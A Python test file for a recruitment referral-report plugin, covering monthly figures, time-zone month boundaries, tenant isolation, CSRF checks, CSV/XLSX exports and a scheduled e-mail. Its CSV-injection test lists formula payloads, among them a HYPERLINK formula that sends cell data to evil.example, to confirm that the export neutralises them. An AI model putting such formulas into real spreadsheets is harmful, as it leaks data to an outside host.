"""The monthly referral report: each figure on a small fixture counted by hand.

The month is March 2026 in Europe/Oslo (CET, UTC+1 until 29 March, then CEST, UTC+2), compared with
February 2026 and March 2025. The report is built "as of" NOW, when March is long over.
"""

from __future__ import annotations

import csv
import io
import time
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import openpyxl
import pytest
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from plugin import create_app
from plugin.extension import get_state
from plugin.models import (
    AtsApplication,
    Delivery,
    FollowUp,
    FollowUpStatus,
    Installation,
    Person,
    Recruiter,
    Reference,
    ReferenceKind,
    Referral,
    ReferralChannel,
    ReferralStatus,
    ReportSnapshot,
    Vendor,
)
from plugin.reports import figures
from plugin.reports.figures import Month
from plugin.tenancy import tenants
from tests.conftest import _empty_tables
from tests.notify_helpers import Inbox, run_tick, smtp_server, text_of, work

NOW = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)
MARCH = Month(2026, 3)


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


class Fixture:
    def __init__(self, session: Session, tenant_id: uuid.UUID) -> None:
        self.session, self.tenant_id = session, tenant_id
        self.installation = Installation(tenant_id=tenant_id, vendor=Vendor.GREENHOUSE, name="GH",
                                         base_url="https://gh.test", credentials_encrypted="x",
                                         webhook_secret_encrypted="x")
        session.add(self.installation)

    def add(self, row: Any) -> Any:
        self.session.add(row)
        self.session.flush()
        return row

    def person(self, first: str) -> Person:
        return self.add(Person(tenant_id=self.tenant_id, first_name=first))

    def reference(self, name: str) -> Reference:
        return self.add(Reference(tenant_id=self.tenant_id, kind=ReferenceKind.OUTSIDER, name=name))

    def referral(self, reference: Reference, when: str, channel: str, status: str, *, prompted: bool = False,
                 credited: bool = True, person: Person | None = None, changed: str | None = None) -> Referral:
        return self.add(Referral(
            tenant_id=self.tenant_id, reference_id=reference.id, person_id=(person or self.person("P")).id,
            channel=ReferralChannel(channel), prompted=prompted, status=ReferralStatus(status), referred_at=at(when),
            status_changed_at=at(changed or when), credited=credited))

    def hire(self, person: Person, source: str | None, applied: str, closed: str, outcome: str = "hired") -> None:
        self.add(AtsApplication(tenant_id=self.tenant_id, installation_id=self.installation.id, person_id=person.id,
                                ats_id=uuid.uuid4().hex, outcome=outcome, source_kind=source, applied_at=at(applied),
                                closed_at=at(closed), updated_at=at(closed)))

    def followup(self, person: Person, due: str, status: FollowUpStatus, completed: str | None = None) -> None:
        self.add(FollowUp(tenant_id=self.tenant_id, person_id=person.id, reason="Keep in touch", due_at=at(due),
                          status=status, completed_at=at(completed) if completed else None))


def build_fixture(session: Session, tenant_id: uuid.UUID) -> dict[str, Any]:
    f = Fixture(session, tenant_id)
    anna, bjorn, carl = f.reference("Anna"), f.reference("Bjørn Ærø"), f.reference("Carl")
    dag, erik = f.reference("Dag"), f.reference("Erik")
    hired_person = f.person("Hanne")
    # March (current): R1, R2, R3.
    f.referral(anna, "2026-03-05 10:00", "linkedin", "hired", person=hired_person)           # R1 unprompted
    f.referral(anna, "2026-03-10 10:00", "event", "in_process")                               # R2 unprompted
    # R3: 2026-02-28 23:30 UTC is 00:30 on 1 March in Oslo: March, not February.
    f.referral(bjorn, "2026-02-28 23:30", "email", "received", prompted=True)
    # R4: 2026-03-31 22:30 UTC is 00:30 on 1 April in Oslo (CEST): April, in no period here.
    f.referral(bjorn, "2026-03-31 22:30", "phone", "not_hired")
    # R5: February (previous); R6: March 2025 (last year, prompted).
    f.referral(anna, "2026-02-15 10:00", "linkedin", "received")
    f.referral(carl, "2025-03-20 10:00", "word_of_mouth", "parked", prompted=True)
    # R7: Carl also referred Hanne, after Anna: no credit, so it counts nowhere.
    f.referral(carl, "2026-03-12 10:00", "linkedin", "received", credited=False, person=hired_person)
    # R8: a job-less referral a recruiter marked hired in March; no ATS knows the hire (prompted, Dec 2025).
    f.referral(bjorn, "2025-12-01 10:00", "phone", "hired", prompted=True, changed="2026-03-25 10:00")
    # Dag: one unprompted referral on 10 Sep 2025: 171 days before March starts, 202 before it ends -> went quiet.
    f.referral(dag, "2025-09-10 22:00", "other", "received")
    # Erik: two hires in Dec/Jan (in no period): an active top reference throughout February and March.
    f.referral(erik, "2025-12-15 10:00", "linkedin", "hired", changed="2026-01-04 10:00")
    f.referral(erik, "2026-01-10 10:00", "linkedin", "hired", changed="2026-01-30 10:00")

    # Hires (ATS). March: referral A1 (Hanne was referred before) 14 days, A4 (ATS source 'referral') 10 days;
    # other: A2 agency 41 days, A3 applied 18 days. A5 not hired. February: A6 applied, 9 days.
    f.hire(hired_person, "applied", "2026-03-06 12:00", "2026-03-20 12:00")                   # A1
    f.hire(f.person("X"), "agency", "2026-01-20 12:00", "2026-03-02 12:00")                   # A2
    f.hire(f.person("Y"), "applied", "2026-02-25 12:00", "2026-03-15 12:00")                  # A3
    f.hire(f.person("Z"), "referral", "2026-03-01 12:00", "2026-03-11 12:00")                 # A4
    f.hire(f.person("W"), "sourced", "2026-02-01 12:00", "2026-03-10 12:00", outcome="not_hired")  # A5
    f.hire(f.person("V"), "applied", "2026-02-01 12:00", "2026-02-10 12:00")                  # A6

    # Follow-ups. March: F1 done in time; F2 open (overdue); F3 done only in April (overdue at March's end);
    # F4 cancelled, F6 snoozed (neither). February: F5 done.
    p = f.person("Follow")
    f.followup(p, "2026-03-03 09:00", FollowUpStatus.DONE, "2026-03-04 09:00")                # F1
    f.followup(p, "2026-03-20 09:00", FollowUpStatus.OPEN)                                    # F2
    f.followup(p, "2026-03-25 09:00", FollowUpStatus.DONE, "2026-04-02 09:00")                # F3
    f.followup(p, "2026-03-10 09:00", FollowUpStatus.CANCELLED)                               # F4
    f.followup(p, "2026-02-10 09:00", FollowUpStatus.DONE, "2026-02-11 09:00")                # F5
    f.followup(p, "2026-03-15 09:00", FollowUpStatus.SNOOZED)                                 # F6
    session.commit()
    return {"anna": str(anna.id), "bjorn": str(bjorn.id), "dag": str(dag.id), "erik": str(erik.id)}


def t(current: Any, previous: Any, last_year: Any) -> dict[str, Any]:
    return {"current": current, "previous": previous, "last_year": last_year}


@pytest.fixture
def refs(session: Session, tenant: Any) -> dict[str, Any]:
    return build_fixture(session, tenant.id)


@pytest.fixture
def report(session: Session, tenant: Any, refs: dict) -> dict[str, Any]:
    return figures.build(session, tenant.id, MARCH, now=NOW)


def test_referral_counts(report: dict) -> None:
    assert report["periods"] == t("2026-03", "2026-02", "2025-03")
    assert report["referrals"] == {
        "total": t(3, 1, 1),        # R1 R2 R3 | R5 | R6
        "unprompted": t(2, 1, 0),   # R1 R2 | R5 | -
        "prompted": t(1, 0, 1),     # R3 | - | R6
        "referrers": t(2, 1, 1)}    # Anna Bjørn | Anna | Carl
    assert {r["channel"]: (r["current"], r["previous"], r["last_year"]) for r in report["by_channel"]} == {
        "linkedin": (1, 1, 0), "event": (1, 0, 0), "email": (1, 0, 0), "phone": (0, 0, 0),
        "word_of_mouth": (0, 0, 1), "other": (0, 0, 0)}
    assert {r["status"]: (r["current"], r["previous"], r["last_year"]) for r in report["ladder"]} == {
        "received": (1, 1, 0), "contacted": (0, 0, 0), "in_process": (1, 0, 0), "hired": (1, 0, 0),
        "not_hired": (0, 0, 0), "parked": (0, 0, 1)}


def test_referrers(report: dict, refs: dict) -> None:
    assert report["by_referrer"] == [
        {"reference_id": refs["anna"], **t(2, 1, 0), "unprompted": 2, "hired": 1},
        {"reference_id": refs["bjorn"], **t(1, 0, 0), "unprompted": 0, "hired": 0}]


def test_hires_and_days_to_hire(report: dict) -> None:
    hires = report["hires"]
    # March: referral A1 A4 + R8 = 3, applied A3, agency A2: 5 hires, 3/5 = 0.6. February: A6 only.
    assert {r["source"]: (r["current"], r["previous"], r["last_year"]) for r in hires["by_source"]} == {
        "referral": (3, 0, 0), "sourced": (0, 0, 0), "applied": (1, 1, 0), "agency": (1, 0, 0), "event": (0, 0, 0),
        "other": (0, 0, 0)}
    assert hires["total"] == t(5, 1, 0)
    assert hires["referral"] == t(3, 0, 0)
    assert hires["referral_share"] == t(0.6, 0.0, None)
    # Medians: referral (14 + 10) / 2 = 12; other (41 + 18) / 2 = 29.5; February other 9.
    assert report["days_to_hire"] == {
        "referral": {"median": t(12.0, None, None), "hires": t(2, 0, 0)},
        "other": {"median": t(29.5, 9.0, None), "hires": t(2, 1, 0)}}


def test_top_references(report: dict, refs: dict) -> None:
    top = report["top_references"]
    # Anna: only R5 (1 point) when March starts; R1 (hired) and R2 make her top by its end -> new.
    # Erik: top at the start and the end of February and March -> steady in both.
    # Dag: 171 days of silence when March starts, 202 when it ends -> went quiet in March.
    assert [e["reference_id"] for e in top["new"]] == [refs["anna"]]
    assert [e["reference_id"] for e in top["steady"]] == [refs["erik"]]
    assert [e["reference_id"] for e in top["gone_quiet"]] == [refs["dag"]]
    assert top["counts"] == {"new": t(1, 0, 0), "steady": t(1, 1, 0), "gone_quiet": t(1, 0, 0),
                             "active_top": t(2, 1, 0)}


def test_followups(report: dict) -> None:
    assert report["followups"] == {"completed": t(1, 1, 0), "overdue": t(2, 0, 0)}  # F1 | F5 ; F2 F3


def test_month_boundary_in_oslo() -> None:
    start, end = MARCH.bounds(figures.ZoneInfo("Europe/Oslo"))
    assert start == at("2026-02-28 23:00") and end == at("2026-03-31 22:00")
    assert Month(2026, 1).shift(-1) == Month(2025, 12) and Month(2026, 12).shift(1) == Month(2027, 1)


def test_an_empty_month_is_an_honest_empty_report(session: Session, tenant: Any) -> None:
    data = figures.build(session, tenant.id, Month(2024, 7), now=NOW)
    assert data["empty"] is True and data["complete"] is True
    assert data["referrals"]["total"] == t(0, 0, 0) and data["by_referrer"] == []
    assert data["hires"]["referral_share"] == t(None, None, None)


# --- through the API and the pages ------------------------------------------------------------------------

def test_api_report_with_names_and_isolation(tenant: Any, other_tenant: Any, refs: dict) -> None:
    response = tenant.get("/reports/referrals/2026-03")
    assert response.status_code == 200, response.json
    body = response.json
    assert body["referrals"]["total"] == t(3, 1, 1)
    assert [(r["name"], r["current"]) for r in body["by_referrer"]] == [("Anna", 2), ("Bjørn Ærø", 1)]
    assert body["top_references"]["new"][0]["name"] == "Anna"
    theirs = other_tenant.get("/reports/referrals/2026-03").json
    assert theirs["empty"] is True and theirs["referrals"]["total"] == t(0, 0, 0) and theirs["by_referrer"] == []


@pytest.mark.parametrize("month", ["2026-13", "2026-00", "26-03", "2026-3", "march", "1999-12", "2026-03x"])
def test_invalid_month_is_422(tenant: Any, month: str) -> None:
    response = tenant.get(f"/reports/referrals/{month}")
    assert response.status_code == 422
    assert set(response.json["errors"]) == {"month"}
    assert "YYYY-MM" in response.json["message"]


def test_past_month_snapshot_is_stable_until_regenerated(tenant: Any, session: Session, refs: dict) -> None:
    first = tenant.get("/reports/referrals/2026-03").json
    assert first["stored"] is True
    f = Fixture(session, tenant.id)
    f.referral(session.get(Reference, uuid.UUID(refs["anna"])), "2026-03-15 10:00", "phone", "received")
    session.commit()
    again = tenant.get("/reports/referrals/2026-03").json
    assert again["referrals"]["total"]["current"] == 3 and again["generated_at"] == first["generated_at"]
    regenerated = tenant.get("/reports/referrals/2026-03", query_string={"regenerate": "true"}).json
    assert regenerated["referrals"]["total"]["current"] == 4
    assert tenant.get("/reports/referrals/2026-03").json["referrals"]["total"]["current"] == 4
    snapshots = session.scalars(select(ReportSnapshot).where(ReportSnapshot.tenant_id == tenant.id)).all()
    assert [s.month for s in snapshots] == ["2026-03"]
    # Names are not stored: the snapshot holds aggregates and ids only.
    assert "Anna" not in str(snapshots[0].data)


def test_current_month_is_live(tenant: Any, session: Session) -> None:
    month = figures.current_month(figures.ZoneInfo("Europe/Oslo"))
    before = tenant.get(f"/reports/referrals/{month.key}").json
    assert (before["stored"], before["complete"]) == (False, False)
    f = Fixture(session, tenant.id)
    f.referral(f.reference("Anna"), (datetime.now(UTC) - timedelta(minutes=1)).strftime("%Y-%m-%d %H:%M"),
               "phone", "received")
    session.commit()
    assert tenant.get(f"/reports/referrals/{month.key}").json["referrals"]["total"]["current"] == 1
    assert session.scalars(select(ReportSnapshot)).all() == []


def sign_in(client: FlaskClient, session: Session, tenant_id: uuid.UUID, *, admin: bool = False) -> Recruiter:
    recruiter = Recruiter(tenant_id=tenant_id, email=f"{uuid.uuid4().hex[:6]}@acme.no", name="Rita", is_admin=admin,
                          language="en")
    session.add(recruiter)
    session.commit()
    with client.session_transaction() as flask_session:
        flask_session.update({"brobygger_recruiter_id": str(recruiter.id), "brobygger_tenant_id": str(tenant_id),
                              "brobygger_signed_in_at": int(time.time()), "brobygger_csrf": "token"})
    return recruiter


def test_pages_need_a_signed_in_recruiter(client: FlaskClient) -> None:
    for path in ("/reports/referrals/2026-03", "/reports/referrals/2026-03.csv", "/references"):
        response = client.get(path)
        assert response.status_code == 302 and "/login" in response.headers["Location"], path


def test_page_with_charts_and_tables(client: FlaskClient, session: Session, tenant: Any, refs: dict) -> None:
    sign_in(client, session, tenant.id)
    response = client.get("/reports/referrals/2026-03")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert '<svg role="img"' in html and "<title id=\"chart-channel-title\">" in html
    assert "<table class=\"figures\">" in html and "Bjørn Ærø" in html and "@page { size: A4" in html
    assert client.get("/reports/referrals").headers["Location"].startswith("/reports/referrals/")


@pytest.mark.parametrize("month", ["2026-13", "2026-3", "nope", "2026-13.csv"])
def test_invalid_month_page_is_404(client: FlaskClient, session: Session, tenant: Any, month: str) -> None:
    sign_in(client, session, tenant.id)
    response = client.get(f"/reports/referrals/{month}")
    assert response.status_code == 404  # said as what to do, not as the API's pattern
    assert "There is no report for that address; choose a month in the report." in response.get_data(as_text=True)


def test_csv_opens_cleanly(client: FlaskClient, session: Session, tenant: Any, refs: dict) -> None:
    sign_in(client, session, tenant.id)
    response = client.get("/reports/referrals/2026-03.csv")
    assert response.status_code == 200 and response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="referral-report-2026-03.csv"'
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert table[0] == ["Section", "Item", "2026-03", "2026-02", "2025-03"]
    assert all(len(row) == 5 for row in table)
    assert ["Referrals", "Referrals", "3", "1", "1"] in table
    assert ["By referrer", "Bjørn Ærø", "1", "0", "0"] in table
    assert ["Hires by source", "Referral share of hires (%)", "60.0", "0.0", ""] in table
    assert ["Days to hire (median)", "Other sources", "29.5", "9.0", ""] in table
    sections = list(dict.fromkeys(row[0] for row in table[1:]))
    assert sections == ["Referrals", "By channel", "By referrer", "Conversion ladder", "Hires by source",
                        "Days to hire (median)", "Active top references", "Follow-ups",
                        "Referrers who heard back"]


def test_csv_in_norwegian_opens_in_norwegian_excel(client: FlaskClient, session: Session, tenant: Any,
                                                   refs: dict) -> None:
    """Norwegian Excel splits on `;` and reads a decimal comma; the BOM keeps æøå."""
    recruiter = sign_in(client, session, tenant.id)
    recruiter.language = "nb"
    session.commit()
    raw = client.get("/reports/referrals/2026-03.csv").get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert table[0] == ["Seksjon", "Post", "2026-03", "2026-02", "2025-03"]
    assert all(len(row) == 5 for row in table)
    assert ["Per anbefaler", "Bjørn Ærø", "1", "0", "0"] in table
    assert ["Ansettelser per kilde", "Andel ansettelser via anbefaling (%)", "60,0", "0,0", ""] in table
    assert ["Dager til ansettelse (median)", "Andre kilder", "29,5", "9,0", ""] in table


def test_xlsx_holds_numbers_with_number_formats(client: FlaskClient, session: Session, tenant: Any,
                                               refs: dict) -> None:
    sign_in(client, session, tenant.id)
    page = client.get("/reports/referrals/2026-03").get_data(as_text=True)
    assert 'href="/reports/referrals/2026-03.xlsx"' in page
    response = client.get("/reports/referrals/2026-03.xlsx")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    rows = {(row[0].value, row[1].value): row[2:] for row in sheet.iter_rows(min_row=2)}
    assert [c.value for c in next(sheet.iter_rows(max_row=1))] == ["Section", "Item", "2026-03", "2026-02", "2025-03"]
    assert [c.value for c in rows[("Referrals", "Referrals")]] == [3, 1, 1]
    share = rows[("Hires by source", "Referral share of hires (%)")]
    assert [c.value for c in share] == [0.6, 0.0, None] and share[0].number_format == "0.0%"
    median = rows[("Days to hire (median)", "Other sources")]
    assert median[0].value == 29.5 and median[0].data_type == "n"


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1;"Klikk")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\r=1+1"]


def test_csv_defuses_referrer_names_a_spreadsheet_would_run(client: FlaskClient, session: Session,
                                                            tenant: Any) -> None:
    """OWASP's CSV injection: a cell starting with = + - @ tab or CR is a formula to Excel and LibreOffice; a
    leading apostrophe makes it text. The counts beside the names stay plain numbers."""
    f = Fixture(session, tenant.id)
    for name in FORMULAS:
        f.referral(f.reference(name), "2026-03-05 10:00", "linkedin", "received")
    session.commit()
    sign_in(client, session, tenant.id)
    raw = client.get("/reports/referrals/2026-03.csv").get_data()
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    referrers = {row[1]: row[2:] for row in table if row[0] == "By referrer"}
    assert referrers == {"'" + name: ["1", "0", "0"] for name in FORMULAS}
    assert not [cell for row in table for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert ["Referrals", "Referrals", "6", "0", "0"] in table


def test_json_and_regenerate_page(client: FlaskClient, session: Session, tenant: Any, refs: dict) -> None:
    sign_in(client, session, tenant.id)
    body = client.get("/reports/referrals/2026-03.json").get_json()
    assert body["referrals"]["total"]["current"] == 3 and body["stored"] is True
    assert client.post("/reports/referrals/2026-03/regenerate", data={"csrf_token": "token"}).status_code == 403
    admin_client = client.application.test_client()
    sign_in(admin_client, session, tenant.id, admin=True)
    assert admin_client.post("/reports/referrals/2026-03/regenerate").status_code == 400  # no CSRF token
    response = admin_client.post("/reports/referrals/2026-03/regenerate", data={"csrf_token": "token"})
    assert response.status_code == 302


def test_references_page_is_tenant_scoped(client: FlaskClient, session: Session, tenant: Any, other_tenant: Any,
                                          refs: dict) -> None:
    Fixture(session, other_tenant.id).reference("Theirs")
    session.commit()
    sign_in(client, session, tenant.id)
    html = client.get("/references").get_data(as_text=True)
    assert "Bjørn Ærø" in html and "Erik" in html and "Theirs" not in html
    assert "Active top reference" in html


# --- the monthly e-mail on the 1st at 08:00, exactly once, through a real SMTP server ---------------------

@pytest.fixture
def smtp() -> Iterator[Inbox]:
    with smtp_server() as inbox:
        yield inbox


@pytest.fixture
def mail_app_config(app_config: dict[str, Any], smtp: Inbox) -> dict[str, Any]:
    return {**app_config, "BROBYGGER_SMTP_URL": smtp.url}


def test_monthly_email_exactly_once(mail_app_config: dict[str, Any], smtp: Inbox) -> None:
    app = create_app(mail_app_config)
    state = get_state(app)
    try:
        with state.sessions() as session:
            mine = tenants.create(session, state.vault, "Acme AS").tenant.id
            theirs = tenants.create(session, state.vault, "Rival AS").tenant.id
            build_fixture(session, mine)
            admin = _recruiter(session, mine, "Ada Admin", admin=True)
            _recruiter(session, mine, "Nils Notadmin")
            _recruiter(session, mine, "Ina Inactive", admin=True, active=False)
            rival = _recruiter(session, theirs, "Rolf Rival", admin=True)
            admin_id, rival_id = admin.id, rival.id

        # 07:59 in Oslo (CEST, UTC+2) on 1 April: nothing yet.
        run_tick(app, at("2026-04-01 05:59"))
        work(app)
        assert _monthly(smtp) == []
        # 08:00: one mail per active admin; later ticks, and a tick after Redis lost everything, add nothing.
        for minute in ("2026-04-01 06:00", "2026-04-01 06:01", "2026-04-01 09:30"):
            run_tick(app, at(minute))
            work(app)
        state.redis.flushdb()
        run_tick(app, at("2026-04-02 07:00"))
        work(app)
        sent = _monthly(smtp)
        assert sorted(m["To"] for m in sent) == ["ada.admin@acme.test", "rolf.rival@acme.test"]
        ours = smtp.to("ada.admin@acme.test")[0]
        text = text_of(ours)
        assert ours["Subject"] == "Brobygger: referral report for March 2026"  # a month by its name, in en-GB
        assert "- Referrals: 3 (1)" in text and "- Referral share of hires: 60% (0%)" in text
        assert "New active top references: Anna" in text and "Gone quiet: Dag" in text
        assert "http://brobygger.test/reports/referrals/2026-03" in text and "Bjørn" not in text
        assert "- Referrals: 0 (0)" in text_of(smtp.to("rolf.rival@acme.test")[0])  # their tenant, their figures
        with state.sessions() as session:
            rows = session.scalars(select(Delivery).where(Delivery.kind == "monthly_report")).all()
            assert sorted(r.key for r in rows) == sorted([f"monthly_report:{admin_id}:2026-03",
                                                          f"monthly_report:{rival_id}:2026-03"])
            assert {r.status for r in rows} == {"sent"}
            # The page now shows the figures that were mailed.
            snapshot = session.scalars(select(ReportSnapshot).where(ReportSnapshot.tenant_id == mine)).one()
            assert snapshot.month == "2026-03" and snapshot.data["referrals"]["total"]["current"] == 3
        # After the catch-up days, a missed month is not sent out of the blue.
        run_tick(app, at("2026-05-04 08:00"))
        work(app)
        assert len(_monthly(smtp)) == 2
    finally:
        _empty_tables(state.engine)
        state.redis.flushdb()
        state.engine.dispose()


def _recruiter(session: Session, tenant_id: uuid.UUID, name: str, *, admin: bool = False,
               active: bool = True) -> Recruiter:
    row = Recruiter(tenant_id=tenant_id, name=name, email=f"{name.lower().replace(' ', '.')}@acme.test",
                    language="en", is_admin=admin, active=active, digest_enabled=False)
    session.add(row)
    session.commit()
    return row


def _monthly(inbox: Inbox) -> list[Any]:
    return [m for m in inbox.messages if "referral report" in m["Subject"]]
